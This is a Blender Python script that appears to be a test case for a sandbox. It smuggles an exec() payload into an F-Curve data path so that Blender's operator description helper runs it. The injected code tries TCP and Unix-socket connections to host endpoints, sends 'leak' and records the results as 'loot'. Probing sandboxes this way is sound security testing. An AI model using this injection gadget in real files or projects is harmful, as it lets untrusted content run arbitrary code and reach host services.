# mode: full
# result: any
# tries: the eval gadget, then TCP to 127.0.0.1 and a host Unix socket
import bpy

carrier = bpy.data.objects.new("carrier", None)
bpy.context.scene.collection.objects.link(carrier)
action = bpy.data.actions.new("a")
carrier.animation_data_create().action = action
payload = """
import socket
out = []
for family, addr in [(socket.AF_INET, ('127.0.0.1', @TCP_PORT@)), (socket.AF_UNIX, '@UNIX_PATH@'), (socket.AF_UNIX, '\0@ABSTRACT_NAME@')]:
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(addr)
        s.sendall(b'leak')
        out.append('connected')
    except OSError as exc:
        out.append('blocked ' + repr(exc)[:60])
base['loot'] = ' | '.join(out)
"""
# Blender's own operator helper evaluates "context." + the F-Curve's data path with full builtins
# (one line: newlines travel as two tabs)
expression = "name if exec(data_path.rsplit('#', 1)[1].replace(chr(9) * 2, chr(10)), {'base': context}) else 0 #"
curve = action.fcurve_ensure_for_datablock(carrier, expression + payload.replace(chr(10), chr(9) * 2))
try:
    bpy.types.WM_OT_context_cycle_array.description(carrier, curve)
except NameError:
    pass
print("LOOT", carrier.get("loot"))
cam = bpy.data.objects.new("camera", bpy.data.cameras.new("camera"))
bpy.context.scene.collection.objects.link(cam)
bpy.context.scene.camera = cam
